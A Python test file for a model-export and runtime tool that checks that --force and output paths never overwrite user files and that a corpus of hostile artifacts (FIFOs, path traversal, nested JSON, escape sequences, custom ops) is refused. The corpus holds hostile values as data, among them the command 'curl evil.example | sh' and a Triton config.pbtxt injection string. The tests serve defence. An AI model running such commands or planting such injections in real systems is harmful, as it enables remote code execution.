"""Paths and artifacts as untrusted input (issue 25): what --force may replace, where commands write, and a corpus of
hostile artifacts that every reader refuses with one line, in bounded time and memory.

The corpus is built here from a real ViT-S export (no blobs committed). Each hostile case runs `canvit-runtime info`
and `canvit-runtime run` in a child process with an address-space limit and a kill timeout: a guard, so that a
regression (a FIFO read forever, a huge allocation) fails the test instead of taking the machine down; not a timing
assertion.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from canvit_export.cli import main as export_main
from canvit_runtime.manifest import sha256_file
from canvit_runtime.paths import MARKER, printable
from conftest import invoke, one_line

BIN = Path(sys.executable).parent
GUARD_BYTES = 6 << 30
"""Address space of a hostile case's child: ONNX Runtime and a ViT-S step need ~2 GB of it."""
GUARD_S = 180


def run_export(*args: object) -> tuple[int, str]:
    return invoke(export_main, *args)


def refusal(stderr: str) -> str:
    """The one `error:` line a refused child printed last (progress lines may come before it); no traceback."""
    lines = stderr.strip().splitlines()
    errors = [line for line in lines if line.startswith("error: ")]
    assert len(errors) == 1 and lines[-1] == errors[0], stderr[-3000:]
    assert "Traceback" not in stderr and "\x1b" not in stderr, stderr[-3000:]
    return errors[0]


def guarded(*command: str | Path, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """`command` in a child with an address-space limit and a kill timeout (a guard, not a timing assertion)."""
    # The shell sets the limit (no preexec_fn: a fork from this multi-threaded process would warn, and may deadlock).
    limited = ["sh", "-c", f'ulimit -v {GUARD_BYTES // 1024} && exec "$@"', "sh", *(str(c) for c in command)]
    try:
        return subprocess.run(limited, capture_output=True, text=True, timeout=GUARD_S, cwd=cwd, check=False)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{' '.join(map(str, command))} ran past {GUARD_S} s: hung on a hostile input")


def copy_artifact(source: Path, destination: Path) -> Path:
    """A copy whose files are hard links of the source's (cheap): cases replace files, never write into them."""
    shutil.copytree(source, destination, copy_function=os.link)
    return destination


def edit_manifest(artifact: Path, change: Callable[[dict], None]) -> None:
    data = json.loads((artifact / "manifest.json").read_text())
    change(data)
    (artifact / "manifest.json").unlink()
    (artifact / "manifest.json").write_text(json.dumps(data))


def replace_file(path: Path, data: bytes) -> None:
    path.unlink()
    path.write_bytes(data)


def relist(artifact: Path, key: str, name: str) -> None:
    """Point the manifest's file `key` at `name` with that file's true size and SHA-256 (the attacker's rewrite)."""
    def change(data: dict) -> None:
        path = artifact / name
        data["files"][key] = {"path": name, "bytes": path.stat().st_size, "sha256": sha256_file(path)}
    edit_manifest(artifact, change)


# --- --force and --out ------------------------------------------------------------------------------------------
@pytest.fixture
def user_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "photos"
    folder.mkdir()
    (folder / "holiday.jpg").write_bytes(b"precious")
    return folder


def test_force_never_deletes_a_user_folder(user_folder: Path) -> None:
    """Before: the folder and its photo were deleted and the export exited 0."""
    code, output = run_export("onnx", "--random-weights", "--backbone", "vits16", "--canvas", "4", "--out",
                              user_folder, "--force")
    assert code == 2 and "is a folder canvit-export did not write (no .canvit-export marker in it)" in one_line(output)
    assert (user_folder / "holiday.jpg").read_bytes() == b"precious"


def test_force_never_replaces_a_file(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    code, output = run_export("onnx", "--random-weights", "--backbone", "vits16", "--canvas", "4", "--out",
                              tmp_path / "notes.txt", "--force")
    assert code == 2 and "is a file, not a folder this tool wrote" in one_line(output)
    assert (tmp_path / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("where", ["current folder", "its parent", "root"])
def test_protected_outs_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """Before: `--out .` ran the whole export, then failed leaving a stray `..<pid>.*.old` folder; `--out ~ --force`
    would have removed the home folder."""
    work = tmp_path / "work"
    (work / "sub").mkdir(parents=True)
    (work / "sub" / "keep").write_text("x")
    monkeypatch.chdir(work / "sub")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    out = {"current folder": ".", "its parent": "..", "root": "/"}[where]
    code, output = run_export("onnx", "--random-weights", "--backbone", "vits16", "--canvas", "4", "--out", out, "--force")
    name = {"current folder": "the current folder", "its parent": "a parent of the current folder",
            "root": "the file system's root"}[where]
    assert code == 2 and f"is {name}: choose a new folder for the output" in one_line(output)
    assert (work / "sub" / "keep").read_text() == "x" and sorted(p.name for p in (work / "sub").iterdir()) == ["keep"]


def test_home_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    code, output = run_export("onnx", "--random-weights", "--backbone", "vits16", "--canvas", "4", "--out", home,
                              "--force")
    assert code == 2 and "is your home folder: choose a new folder for the output" in one_line(output)


@pytest.mark.parametrize("command", ["openvino", "triton", "calibrate"])
def test_out_may_not_be_or_hold_the_input(export_artifact, tmp_path: Path, command: str) -> None:
    """Before: `openvino|triton --artifact X --out X --force` destroyed the source artifact."""
    source = copy_artifact(export_artifact("vits16", canvas=16), tmp_path / "a")
    before = sorted(p.name for p in source.iterdir())
    option = "--artifact"
    for out, word in ((source, "is the input"), (source / "inner", "is inside the input"), (tmp_path, "contains the input")):
        code, output = run_export(command, option, source, "--out", out, "--force")
        assert code == 2 and f"{word} {source}" in one_line(output), output
    assert sorted(p.name for p in source.iterdir()) == before


def test_force_replaces_only_what_this_tool_wrote(tmp_path: Path) -> None:
    """A folder written by staged_artifact carries the marker and may be replaced with force; once a user adds a file
    of theirs to it, it may not; a symlink as --out never."""
    from canvit_runtime.artifact import staged_artifact
    from canvit_runtime.paths import ExportError

    out = tmp_path / "artifact"
    with staged_artifact(out, force=False) as staging:
        (staging / "step.onnx").write_text("1")
    assert json.loads((out / MARKER).read_text())["paths"] == ["step.onnx"]
    with staged_artifact(out, force=True) as staging:
        (staging / "step.onnx").write_text("2")
    assert (out / "step.onnx").read_text() == "2"
    (out / "my-notes.txt").write_text("mine")
    with pytest.raises(ExportError, match=r"holds 1 path canvit-export did not write \(my-notes.txt\)"):
        with staged_artifact(out, force=True) as staging:
            (staging / "step.onnx").write_text("3")
    assert (out / "my-notes.txt").read_text() == "mine" and (out / "step.onnx").read_text() == "2"
    (tmp_path / "link").symlink_to(out)
    with pytest.raises(ExportError, match="is a symbolic link"):
        with staged_artifact(tmp_path / "link", force=True):
            pass
    assert not list(tmp_path.glob(".artifact.*")), "no staging folder left behind"


def test_parity_report_stays_out_of_the_artifact(export_artifact, tmp_path: Path, monkeypatch) -> None:
    """Before: parity wrote DIR/parity-<runtime>.json inside the artifact, following a symlink planted there (any file
    the user can write was overwritten with JSON). Now the default lands in reports/, a report path inside the
    artifact is refused, and a symlink at the report path is refused, before any work."""
    artifact = copy_artifact(export_artifact("vits16", canvas=16), tmp_path / "a")
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    (artifact / "parity-onnxruntime.json").symlink_to(victim)
    (tmp_path / "link.json").symlink_to(victim)
    monkeypatch.chdir(tmp_path)
    for report, needle in ((artifact / "parity-onnxruntime.json", "is a symbolic link"),
                           (artifact / "report.json", "is inside the input"),
                           (tmp_path / "link.json", "is a symbolic link")):
        code, output = run_export("parity", "--artifact", artifact, "--runtime", "onnxruntime", "--random-weights",
                                  "--backbone", "vits16", "--glimpses", "1", "--report", report)
        assert code == 2 and needle in one_line(output), output
    code, output = run_export("parity", "--artifact", artifact, "--runtime", "onnxruntime", "--glimpses", "1")
    assert code == 0, output
    assert (tmp_path / "reports" / "parity-a-onnxruntime.json").is_file()
    assert victim.read_text() == "mine"


def test_report_folders_and_output_files(export_artifact, tmp_path: Path) -> None:
    """canvit-runtime run's --canvas-out and --pictures: never through a symlink, never inside the artifact, never
    into a folder this tool did not write."""
    from canvit_runtime.cli import main as runtime_main

    artifact = export_artifact("vits16", canvas=16)
    victim = tmp_path / "victim.npy"
    victim.write_bytes(b"mine")
    (tmp_path / "link.npy").symlink_to(victim)
    photo = tmp_path / "photo.png"
    from PIL import Image
    Image.new("RGB", (64, 48), (120, 30, 200)).save(photo)
    user = tmp_path / "user"
    user.mkdir()
    (user / "x").write_text("x")
    for args, needle in ((["--canvas-out", tmp_path / "link.npy"], "is a symbolic link"),
                         (["--canvas-out", artifact / "c.npy"], "is inside the input"),
                         (["--pictures", user], "is a folder canvit-export did not write"),
                         (["--pictures", artifact / "pics"], "is inside the input")):
        result = CliRunner().invoke(runtime_main, ["run", "--artifact", str(artifact), "--image", str(photo),
                                                   "--glimpses", "1", *map(str, args)])
        assert result.exit_code == 2 and needle in one_line(result.output), result.output
    assert victim.read_bytes() == b"mine" and not (artifact / "pics").exists()


# --- the hostile-artifact corpus --------------------------------------------------------------------------------
def _fifo(artifact: Path) -> None:
    (artifact / "initial_state.bin").unlink()
    os.mkfifo(artifact / "initial_state.bin")


def _dev_zero(artifact: Path) -> None:
    (artifact / "initial_state.bin").unlink()
    (artifact / "initial_state.bin").symlink_to("/dev/zero")
    edit_manifest(artifact, lambda d: d["files"]["initial_state"].update(bytes=0))


def _manifest_fifo(artifact: Path) -> None:
    (artifact / "manifest.json").unlink()
    os.mkfifo(artifact / "manifest.json")


def _escape_path(artifact: Path) -> None:
    shutil.copyfile(artifact / "initial_state.bin", artifact.parent / "outside.bin")
    edit_manifest(artifact, lambda d: d["files"]["initial_state"].update(path="../outside.bin"))


def _absolute_path(artifact: Path) -> None:
    edit_manifest(artifact, lambda d: d["files"]["initial_state"].update(
        path=str((artifact / "initial_state.bin").resolve())))


def _not_onnx(artifact: Path) -> None:
    replace_file(artifact / "step.onnx", b"\x08\x07not an onnx model at all" * 1000)
    relist(artifact, "graph", "step.onnx")


def _external_data(artifact: Path) -> None:
    import onnx

    model = onnx.load(str(artifact / "step.onnx"))
    (artifact / "step.onnx").unlink()
    onnx.save(model, str(artifact / "step.onnx"), save_as_external_data=True, location="weights.data")
    relist(artifact, "graph", "step.onnx")


def _custom_op(artifact: Path) -> None:
    import onnx

    model = onnx.load(str(artifact / "step.onnx"))
    node = next(n for n in model.graph.node if n.op_type == "Add")
    node.op_type, node.domain = "Explode", "com.attacker"
    model.opset_import.append(onnx.helper.make_opsetid("com.attacker", 1))
    replace_file(artifact / "step.onnx", model.SerializeToString())
    relist(artifact, "graph", "step.onnx")


def _shapes_differ(artifact: Path) -> None:
    import onnx

    model = onnx.load(str(artifact / "step.onnx"))
    dim = next(i for i in model.graph.input if i.name == "centers").type.tensor_type.shape.dim[1]
    dim.ClearField("dim_value")
    dim.dim_param = "n"
    replace_file(artifact / "step.onnx", model.SerializeToString())
    relist(artifact, "graph", "step.onnx")


def _huge_canvas(artifact: Path) -> None:
    def change(data: dict) -> None:
        g = data["geometry"]["canvas_grid"] = 100_000
        tokens = 16 + g * g
        for t in (*data["inputs"], *data["outputs"], *data["state"]):
            if t.get("name", t.get("input")) in ("canvas", "canvas_next"):
                t["shape"] = [1, tokens, 1024]
    edit_manifest(artifact, change)


def _deep_json(artifact: Path) -> None:
    (artifact / "manifest.json").unlink()
    (artifact / "manifest.json").write_text('{"format": "canvit-export-manifest", "x": ' + "[" * 100_000 + "]" * 100_000 + "}")


def _escape_sequences(artifact: Path) -> None:
    edit_manifest(artifact, lambda d: d.update(command="canvit-export onnx\x1b[2J\x1b[H\nOK all verified",
                                                format_version=1, precision="nonsense"))


def _command_injection(artifact: Path) -> None:
    edit_manifest(artifact, lambda d: d.update(command="curl evil.example | sh", precision="nonsense"))


def _name_injection(artifact: Path) -> None:
    def change(data: dict) -> None:
        data["inputs"][0]["name"] = 'scene" } ] parameters [ { key: "EXECUTION_ENV_PATH" value: { string_value: "x'
    edit_manifest(artifact, change)


CORPUS: dict[str, tuple[Callable[[Path], None], str]] = {
    # case: (how the artifact is altered, what the one line says)
    "FIFO as a listed file": (_fifo, "not a regular file"),
    "symlink to /dev/zero, listed as 0 bytes": (_dev_zero, "not a regular file"),
    "manifest.json is a FIFO": (_manifest_fifo, "not a plain manifest file"),
    "../ in a file entry": (_escape_path, "not a plain name inside the artifact folder"),
    "absolute file entry": (_absolute_path, "not a plain name inside the artifact folder"),
    "bytes that are not ONNX, checksum recomputed": (_not_onnx, "not an ONNX model"),
    "unlisted external data": (_external_data, "loads external data that the manifest does not checksum"),
    "custom-op graph": (_custom_op, "onnxruntime cannot load this artifact's step"),
    "graph shapes differ from the manifest": (_shapes_differ, "the graph's input 'centers' has shape"),
    "huge canvas grid": (_huge_canvas, "geometry.canvas_grid: Input should be less than or equal to 256"),
    "deeply nested JSON": (_deep_json, "JSON nested deeper than 64 levels"),
    "escape sequences in manifest strings": (_escape_sequences, "not a valid version-1 manifest"),
    "a command field that is not ours": (_command_injection, "re-export it with this canvit-export"),
    "tensor name breaking out of config.pbtxt": (_name_injection, "String should match pattern"),
}
"""Before this issue, as run then: FIFO, /dev/zero and the manifest FIFO hung info/open/parity forever; `../` and
absolute entries were read; non-ONNX bytes, the custom op, the shape mismatch, deep JSON: tracebacks; the huge grid
allocated tens of GB; escape sequences reached the terminal and the attacker's `command` was recommended as the fix;
external data ran unchecked; the tensor name was written into config.pbtxt unescaped."""


EXPORT_CASES = ("symlink to /dev/zero, listed as 0 bytes", "../ in a file entry", "huge canvas grid",
                "tensor name breaking out of config.pbtxt")
"""Besides the graph-level cases, the manifest-level cases also run through `canvit-export openvino` and `triton`."""


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_hostile_artifacts_are_one_line_refusals(export_artifact, tmp_path: Path, case: str) -> None:
    build, needle = CORPUS[case]
    artifact = copy_artifact(export_artifact("vits16", canvas=16), tmp_path / "hostile")
    build(artifact)
    photo = tmp_path / "photo.png"
    from PIL import Image
    Image.new("RGB", (64, 48), (10, 200, 30)).save(photo)
    graph_level = needle.startswith(("onnxruntime cannot", "the graph's", "not an ONNX", "loads external"))
    runs = {"info": guarded(BIN / "canvit-runtime", "info", artifact),
            "run": guarded(BIN / "canvit-runtime", "run", "--artifact", artifact, "--image", photo, "--glimpses", "1")}
    if graph_level or case in EXPORT_CASES:  # the exports load manifests as the runtime does: a few cases suffice
        runs["openvino"] = guarded(BIN / "canvit-export", "openvino", "--artifact", artifact, "--out", tmp_path / "ir")
        runs["triton"] = guarded(BIN / "canvit-export", "triton", "--artifact", artifact, "--out", tmp_path / "repo",
                                 "--backends", "onnxruntime,python")
    for name, result in runs.items():
        if name == "info" and graph_level:
            assert result.returncode == 0, result.stderr  # info reads the manifest and checksums, not the graph
            continue
        if case == "custom-op graph" and name in ("openvino", "triton"):
            # OpenVINO's converter names the op it lacks; a Triton repository is written (its server refuses the op
            # when it loads the model: no Python runtime here can say more than the graph does)
            assert name == "triton" or "OpenVINO cannot convert this graph" in refusal(result.stderr), result.stderr
            continue
        assert result.returncode == 2, (name, result.stdout[-2000:], result.stderr[-2000:])
        line = refusal(result.stderr)
        assert needle in line, (name, line)
        assert "curl" not in line and "\x1b" not in result.stdout + result.stderr, line


def test_openvino_ir_runs_the_weights_it_lists(export_artifact, tmp_path: Path) -> None:
    """Before: a stateful IR whose manifest listed a verified weights file ran the step.bin beside step.xml (info said
    "SHA-256 verified"). Now the listed weights are passed to OpenVINO explicitly: a decoy step.bin changes nothing."""
    import canvit_runtime
    from canvit_export.export.openvino import export_openvino
    from canvit_runtime.preprocess import scene_batch

    ir = export_openvino(export_artifact("vits16", canvas=16), tmp_path / "ir", quiet=True).directory
    hostile = copy_artifact(ir, tmp_path / "hostile")
    os.rename(hostile / "step.bin", hostile / "listed.bin")
    relist(hostile, "weights", "listed.bin")
    (hostile / "step.bin").write_bytes(np.random.default_rng(0).bytes((hostile / "listed.bin").stat().st_size))
    Image = pytest.importorskip("PIL.Image")
    scene = scene_batch(Image.new("RGB", (64, 48), (10, 200, 30)), scene_px=512, batch=1)
    centers, scales = np.zeros((1, 2), np.float32), np.ones(1, np.float32)
    canvases = [canvit_runtime.open(a, runtime="openvino").step(scene, centers, scales).canvas for a in (ir, hostile)]
    np.testing.assert_array_equal(canvases[0], canvases[1])


def test_triton_copies_only_listed_files(export_artifact, tmp_path: Path) -> None:
    """Before: the artifact was copied following symlinks (a link to a secret copied its content, a link to `.`
    nested copies until ELOOP). Now only manifest.json and the files it lists are copied, from their checksummed
    bytes."""
    from canvit_export.triton import write_repository

    artifact = copy_artifact(export_artifact("vits16", canvas=16), tmp_path / "a")
    secret = tmp_path / "secret.txt"
    secret.write_text("password")
    (artifact / "notes.txt").symlink_to(secret)
    (artifact / "loop").symlink_to(".")
    (artifact / "extra.tar").write_bytes(b"not listed")
    write_repository([artifact], tmp_path / "repo", backends=["python"])
    copied = sorted(p.name for p in (tmp_path / "repo" / "a-python" / "1" / "artifact").iterdir())
    assert copied == ["initial_state.bin", "manifest.json", "step.onnx"], copied


def test_config_pbtxt_is_parsed_back(export_artifact) -> None:
    """check_config parses config.pbtxt with Triton's ModelConfig and refuses a parameter or input the manifest does
    not ask for (what an unescaped name could inject)."""
    from canvit_export.errors import ExportError
    from canvit_export.triton import ServeOptions, check_config, config_text
    from canvit_runtime.manifest import load_manifest

    pytest.importorskip("tritonclient.grpc.model_config_pb2", reason="tritonclient (canvit-export[triton]) is missing")
    manifest = load_manifest(export_artifact("vits16", canvas=16))
    text = config_text(manifest, "m-python", "python", ServeOptions(), controls=True)
    check_config(text, manifest, "m-python", "python", {}, controls=True)
    injected = text + 'parameters [ { key: "EXECUTION_ENV_PATH" value: { string_value: "$$TRITON_MODEL_DIRECTORY/x.tar" } } ]\n'
    with pytest.raises(ExportError, match="has parameters"):
        check_config(injected, manifest, "m-python", "python", {}, controls=True)
    with pytest.raises(ExportError, match="does not parse as Triton's ModelConfig"):
        check_config(text.replace('name: "scene"', 'name: "scene" }'), manifest, "m-python", "python", {}, controls=True)


# --- bounded work from small inputs ------------------------------------------------------------------------------
def test_thin_images_are_refused_before_the_resize(tmp_path: Path) -> None:
    """Before: a 177-byte PNG of 100000 x 1 px took 7 GB at scene 128 (the resize is outside Pillow's bomb check)."""
    from PIL import Image

    from canvit_runtime.preprocess import preprocess

    Image.new("RGB", (100_000, 1)).save(tmp_path / "thin.png")
    assert (tmp_path / "thin.png").stat().st_size < 1000
    with pytest.raises(ValueError, match="100000 x 1 px is more than 16:1"):
        preprocess(tmp_path / "thin.png", scene_px=512)


def test_16_bit_images_are_scaled_not_clipped(tmp_path: Path) -> None:
    """Before: a 16-bit grayscale PNG was saturated (99.6% of pixels 255) by PIL's convert("RGB")."""
    from PIL import Image

    from canvit_runtime.preprocess import load_image

    ramp = (np.arange(256 * 256, dtype=np.uint32).reshape(256, 256)).astype(np.uint16)
    Image.fromarray(ramp).save(tmp_path / "ramp16.png")
    rgb = np.asarray(load_image(tmp_path / "ramp16.png"))
    expected = np.rint(ramp / 257.0).astype(np.uint8)
    np.testing.assert_array_equal(rgb[..., 0], expected)
    assert (rgb == 255).mean() < 0.01


@pytest.mark.parametrize(("content", "needle"), [
    ('[["0.1", "0.2", "0.5"]]', "viewpoint 0 must be [row, col, scale] numbers"),
    ("[[true, false, 0.5]]", "viewpoint 0 must be [row, col, scale] numbers"),
    ("[" * 10_000 + "]" * 10_000, "nested deeper than"),
])
def test_viewpoint_files_hold_numbers(tmp_path: Path, content: str, needle: str) -> None:
    from canvit_runtime.policies import from_json

    (tmp_path / "vp.json").write_text(content)
    with pytest.raises(ValueError, match=needle.replace("[", r"\[")):
        from_json(tmp_path / "vp.json", batch=1)


def test_a_billion_glimpses_are_refused_at_once(export_artifact, tmp_path: Path) -> None:
    """Before: `--glimpses 1000000000` built every viewpoint before the first glimpse."""
    from PIL import Image

    Image.new("RGB", (64, 48)).save(tmp_path / "p.png")
    result = guarded(BIN / "canvit-runtime", "run", "--artifact", export_artifact("vits16", canvas=16), "--image",
                     tmp_path / "p.png", "--policy", "f-iid", "--glimpses", "1000000000")
    assert result.returncode == 2 and "at most 100000 in one rollout" in one_line(result.stderr), result.stderr


def test_printable_strips_control_characters() -> None:
    assert printable("ok\x1b[2J\nfake OK\u202e") == "ok?[2J?fake OK?"
    assert len(printable("x" * 1000, 50)) == 50


# --- authenticity ------------------------------------------------------------------------------------------------
@pytest.fixture
def key_pair(tmp_path: Path) -> tuple[Path, Path, Path]:
    """An elliptic-curve key pair (PEM) and a second public key, made with `cryptography`."""
    serialization = pytest.importorskip("cryptography.hazmat.primitives.serialization",
                                        reason="cryptography (canvit-runtime[signing]) is missing")
    from cryptography.hazmat.primitives.asymmetric import ec

    paths = []
    for name in ("key", "other"):
        key = ec.generate_private_key(ec.SECP256R1())
        (tmp_path / f"{name}.pem").write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                                                 serialization.PrivateFormat.PKCS8,
                                                                 serialization.NoEncryption()))
        (tmp_path / f"{name}.pub").write_bytes(key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
        paths.append(tmp_path / name)
    return paths[0].with_suffix(".pem"), paths[0].with_suffix(".pub"), paths[1].with_suffix(".pub")


def test_signed_artifacts_verify_and_tampered_ones_do_not(export_artifact, tmp_path: Path, key_pair) -> None:
    """`canvit-runtime sign` then `info|run --public-key`: the signed artifact verifies; one whose file was altered
    and whose manifest was rewritten to match (checksums pass) is refused with one line, as is another key's."""
    pytest.importorskip("model_signing", reason="OpenSSF model-signing (canvit-runtime[signing]) is missing")
    from canvit_runtime.artifact import staged_artifact

    private, public, other = key_pair
    artifact = tmp_path / "signed"
    with staged_artifact(artifact, force=False) as staging:  # a copy this tool wrote: its marker lists the files
        for f in export_artifact("vits16", canvas=16).iterdir():
            if f.name != MARKER:
                shutil.copyfile(f, staging / f.name)
    signed = guarded(BIN / "canvit-runtime", "sign", "signed", "--private-key", private, cwd=tmp_path)  # a relative path
    assert signed.returncode == 0 and (artifact / "artifact.sig").is_file(), signed.stderr
    assert "artifact.sig" in json.loads((artifact / MARKER).read_text())["paths"]
    ok = guarded(BIN / "canvit-runtime", "info", artifact, "--public-key", public)
    assert ok.returncode == 0 and f"signature verified with {public}" in ok.stdout, ok.stderr
    wrong = guarded(BIN / "canvit-runtime", "info", artifact, "--public-key", other)
    assert wrong.returncode == 2 and "signature check failed" in one_line(wrong.stderr), wrong.stderr
    state = np.fromfile(artifact / "initial_state.bin", dtype="<f4")
    state[:16] += 1.0  # the attacker's change, and the manifest rewritten so that every checksum passes
    replace_file(artifact / "initial_state.bin", state.tobytes())
    relist(artifact, "initial_state", "initial_state.bin")
    assert guarded(BIN / "canvit-runtime", "info", artifact).returncode == 0, "checksums alone pass"
    tampered = guarded(BIN / "canvit-runtime", "info", artifact, "--public-key", public)
    assert tampered.returncode == 2 and "the artifact was altered or signed by another key" in one_line(tampered.stderr)
    import canvit_runtime
    from canvit_runtime.manifest import ManifestError

    with pytest.raises(ManifestError, match="signature check failed"):
        canvit_runtime.open(artifact, public_key=public)


def test_profile_json_never_through_a_link(export_artifact, tmp_path: Path) -> None:
    """Before: a dangling symlink at --json passed the `exists()` check and the report was written where it pointed."""
    (tmp_path / "report.json").symlink_to(tmp_path / "elsewhere.json")
    code, output = run_export("profile", "--artifact", export_artifact("vits16", canvas=16), "--runtime", "onnxruntime",
                              "--json", tmp_path / "report.json")
    assert code == 2 and "it exists; choose another file" in one_line(output)
    assert not (tmp_path / "elsewhere.json").exists()
